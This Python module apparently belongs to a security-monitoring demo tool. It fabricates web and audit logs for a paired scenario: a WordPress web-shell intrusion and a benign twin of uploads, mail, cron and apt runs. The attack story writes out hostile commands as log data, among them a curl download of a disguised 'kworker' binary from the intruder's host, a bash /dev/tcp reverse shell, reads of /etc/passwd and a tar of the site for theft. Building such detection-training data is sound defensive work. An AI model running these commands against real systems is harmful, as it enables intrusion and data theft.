"""A script planted in a blog's folder of uploads, its use, and the honest commands of a web server."""

from __future__ import annotations

from socterm.demo.cast import WEB
from socterm.demo.model import Noise, Story
from socterm.demo.noise_audit import RECORDED
from socterm.demo.noise_web import robots_of, strangers_of
from socterm.demo.pen_audit import AUDIT, AuditPen, Who
from socterm.demo.pen_web import APACHE, BROWSERS, CURL, Client, WebPen
from socterm.demo.sheet import Sheet
from socterm.demo.stories.truth_web import EDITOR, INTRUDER, WEB_SHELL, WEB_SHELL_BENIGN

_SITE = "https://blog.example"
_WWW = Who("www-data", 33)
_CRON_WWW = Who("www-data", 33, "www-data", 33, 412)
_ROOT = Who("root", 0, "dana", 1004, 9, "pts1")
_UPLOADS = "/wp-content/uploads/2026/03"
_SHELL = f"{_UPLOADS}/cache-8812.php"
_PLUGINS = (
    "akismet", "all-in-one-seo", "backup-buddy", "contact-form", "cookie-note", "easy-forms",
    "event-list", "gallery-pro", "gdpr-box", "image-slider", "jet-menu", "link-check", "mail-chimp",
    "map-press", "member-area", "news-letter", "photo-wall", "poll-it", "pop-up-now", "quick-cache",
    "quiz-maker", "recipe-box", "related-posts", "reviews", "seo-tools", "share-it", "short-codes",
    "site-map", "slide-show", "social-feed", "spam-stop", "survey", "table-press", "tag-cloud",
    "team-view", "test-imonials", "time-line", "tool-tips", "translate", "user-role", "video-box",
    "watermark", "weather", "wiki-press", "wish-list",
)  # fmt: skip
_POSTS_READ = tuple(f"/2026/03/garden-in-{word}/" for word in ("march", "rain", "pots", "shade", "town"))
# What is asked of the shell, as the audit log shows it: (exe, argv) run by the sh -c before it.
_LOOK_ROUND = (
    ("id", "/usr/bin/id", ("id",)),
    ("uname -a", "/usr/bin/uname", ("uname", "-a")),
    ("whoami", "/usr/bin/whoami", ("whoami",)),
    ("hostname", "/usr/bin/hostname", ("hostname",)),
    ("ss -tlnp", "/usr/bin/ss", ("ss", "-tlnp")),
    ("ps auxww", "/usr/bin/ps", ("ps", "auxww")),
    ("cat /etc/passwd", "/usr/bin/cat", ("cat", "/etc/passwd")),
)


def _scan(sheet: Sheet) -> None:
    pen, client = WebPen(sheet, APACHE, _SITE), Client(INTRUDER, BROWSERS[0])
    for number, plugin in enumerate(_PLUGINS):
        there = plugin in ("contact-form", "akismet")
        pen.request(
            120 + 0.66 * number,
            client,
            f"/wp-content/plugins/{plugin}/readme.txt",
            status=200 if there else 404,
            size=5211 if there else 437,
            version="1.1",
        )


def _upload(sheet: Sheet) -> None:
    pen, client = WebPen(sheet, APACHE, _SITE), Client(INTRUDER, BROWSERS[0])
    path = "/wp-content/plugins/contact-form/upload.php"
    pen.request(190, client, path, method="POST", size=64, version="1.1")
    pen.request(194, client, _SHELL, size=12, version="1.1")


_POSTS = (200, 206, 211, 217, 222, 229, 236, 243, 262, 270, 281, 300, 402, 431)


def _shell(sheet: Sheet) -> None:
    pen, client = WebPen(sheet, APACHE, _SITE), Client(INTRUDER, BROWSERS[0])
    for number, at in enumerate(_POSTS):
        pen.request(at, client, _SHELL, method="POST", size=80 + 613 * (number % 5), version="1.1")


def _run_by_shell(sheet: Sheet, at: float, command: str, *children: tuple[str, tuple[str, ...]]) -> None:
    pen, parent = AuditPen(sheet, WEB), sheet.token("p")
    cwd = "/srv/www/blog/wp-content/uploads/2026/03"
    at = pen.run(at, _WWW, "/usr/bin/dash", ("sh", "-c", command), cwd=cwd, pid=parent, parent="911")
    for exe, argv in children:
        at = pen.run(at, _WWW, exe, argv, cwd=cwd, parent=parent)


def _shell_first(sheet: Sheet) -> None:
    for at, (command, exe, argv) in zip(_POSTS[:7], _LOOK_ROUND, strict=True):
        _run_by_shell(sheet, at + 0.02, command, (exe, argv))


def _shell_download(sheet: Sheet) -> None:
    fetch = ("curl", "-s", "-o", "/tmp/.x/kworker", f"http://{INTRUDER}/k")
    command = f"mkdir -p /tmp/.x; {' '.join(fetch)}; chmod +x /tmp/.x/kworker"
    _run_by_shell(
        sheet, 262.02, command,
        ("/usr/bin/mkdir", ("mkdir", "-p", "/tmp/.x")),
        ("/usr/bin/curl", fetch),
        ("/usr/bin/chmod", ("chmod", "+x", "/tmp/.x/kworker")),
    )  # fmt: skip
    _run_by_shell(sheet, 281.02, "/tmp/.x/kworker -d", ("/tmp/.x/kworker", ("/tmp/.x/kworker", "-d")))


def _shell_reverse(sheet: Sheet) -> None:
    inner = f"bash -i >& /dev/tcp/{INTRUDER}/443 0>&1"
    _run_by_shell(
        sheet, 300.02, f"bash -c '{inner}'",
        ("/usr/bin/bash", ("bash", "-c", inner)),
        ("/usr/bin/bash", ("bash", "-i")),
    )  # fmt: skip
    _run_by_shell(
        sheet, 402.02, "tar czf site.tar.gz /srv/www/blog",
        ("/usr/bin/tar", ("tar", "czf", "site.tar.gz", "/srv/www/blog")),
    )  # fmt: skip


def _loot(sheet: Sheet) -> None:
    pen, client = WebPen(sheet, APACHE, _SITE), Client(INTRUDER, CURL)
    for at in (470.0, 548.0):
        pen.request(at, client, f"{_UPLOADS}/site.tar.gz", size=1_903_662_118, version="1.1")


def _editor(sheet: Sheet) -> None:
    pen, client = WebPen(sheet, APACHE, _SITE), Client(EDITOR, BROWSERS[1])
    pen.request(60, client, "/wp-login.php", size=7120)
    pen.request(71, client, "/wp-login.php", method="POST", status=302, size=0, referrer="/wp-login.php")
    pen.request(72, client, "/wp-admin/upload.php", size=88120, referrer="/wp-login.php")
    for number in range(12):
        at = 90 + 31.0 * number
        page = "/wp-admin/upload.php"
        pen.request(at, client, "/wp-admin/async-upload.php", method="POST", size=940, referrer=page)
        picture = f"{_UPLOADS}/garden-{number + 1}.jpg"
        pen.request(at + 2, client, picture, size=402_117 + 1013 * number, referrer=page)
    for number in range(20):
        pen.request(100 + 21.0 * number, client, "/wp-admin/admin-ajax.php", method="POST", size=47,
                    referrer="/wp-admin/post.php?post=88&action=edit")  # fmt: skip


def _mail(sheet: Sheet) -> None:
    pen = AuditPen(sheet, WEB)
    for at in (140.0, 355.0, 501.0):
        parent = sheet.token("p")
        argv = ("sh", "-c", "/usr/sbin/sendmail -t -i -f wordpress@blog.example")
        pen.run(at, _WWW, "/usr/bin/dash", argv, cwd="/srv/www/blog", pid=parent, parent="911")
        mail = ("/usr/sbin/sendmail", "-t", "-i", "-f", "wordpress@blog.example")
        pen.run(at + 0.01, _WWW, "/usr/sbin/postdrop", mail, cwd="/srv/www/blog", parent=parent)


def _cron(sheet: Sheet) -> None:
    pen = AuditPen(sheet, WEB)
    for number, at in enumerate((61.0, 361.0)):
        who = _CRON_WWW._replace(session=412 + 6 * number)
        pen.cron_session(at, who, lasts=2.0)
        command = "php /srv/www/blog/wp-cron.php"
        pen.run(at + 0.1, who, "/usr/bin/dash", ("/bin/sh", "-c", command), cwd="/var/www")
        pen.run(at + 0.11, who, "/usr/bin/php8.4", tuple(command.split()), cwd="/var/www")


def _package(sheet: Sheet) -> None:
    pen = AuditPen(sheet, WEB)
    at = pen.run(200, _ROOT, "/usr/bin/apt", ("apt", "upgrade", "-y"), cwd="/root")
    for number, package in enumerate(("libssl3t64", "php8.4-fpm", "tzdata")):
        at = 204 + 6.0 * number
        script = f"/var/lib/dpkg/info/{package}.postinst"
        unpack = ("dpkg", "--unpack", f"/var/cache/apt/archives/{package}_amd64.deb")
        pen.run(at, _ROOT, "/usr/bin/dpkg", unpack, cwd="/root")
        pen.run(at + 2, _ROOT, "/usr/bin/dash", ("/bin/sh", script, "configure", "1.2-3"), cwd="/root")
        pen.run(at + 2.4, _ROOT, "/usr/bin/dash", ("/bin/sh", "/var/lib/dpkg/tmp.ci/preinst", "upgrade"))


NOISE = (
    RECORDED,
    Noise("robots", "search engines and feed readers at their pace", robots_of(APACHE, _SITE, _POSTS_READ)),
    Noise("internet", "single probes from all over, each from another address", strangers_of(APACHE)),
)

STORIES = (
    Story(
        name="web_shell",
        says="a blog's plugin takes any upload: a web shell, a reverse shell, the site packed and fetched",
        logs=(APACHE, AUDIT),
        length=620.0,
        chapters=WEB_SHELL.chapters(
            _scan, _upload, _shell, _shell_first, _shell_download, _shell_reverse, _loot
        ),
        noise=NOISE,
        alerts=WEB_SHELL.alerts,
        quiet=WEB_SHELL.quiet,
    ),
    Story(
        name="web_editor",
        says="an editor uploads pictures, PHP sends mail through a shell, cron and apt run scripts",
        logs=(APACHE, AUDIT),
        length=620.0,
        chapters=WEB_SHELL_BENIGN.chapters(_editor, _mail, _cron, _package),
        noise=NOISE,
        quiet=WEB_SHELL_BENIGN.quiet,
        twin_of="web_shell",
    ),
)
